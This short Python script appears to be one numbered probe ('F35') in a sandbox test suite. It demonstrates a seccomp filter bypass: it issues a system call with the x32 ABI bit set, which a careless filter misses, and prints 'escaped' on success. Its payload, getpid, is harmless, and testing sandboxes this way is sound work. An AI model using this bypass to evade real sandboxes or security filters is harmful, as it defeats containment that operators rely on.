"""Makes a system call with a number of the x32 ABI, which a careless filter does not know.

exploit: F35
layer: the system call filter
kept: few kernels have the x32 ABI
"""

import ctypes
import platform

LIBC = ctypes.CDLL(None, use_errno=True)


def call(x86: int, arm: int, *words: object) -> int:
    number = x86 if platform.machine() == "x86_64" else arm
    return int(
        LIBC.syscall(ctypes.c_long(number), *(ctypes.c_long(w) if isinstance(w, int) else w for w in words))
    )


if platform.machine() == "x86_64" and call(0x40000000 | 39, 0) > 0:
    print("escaped")
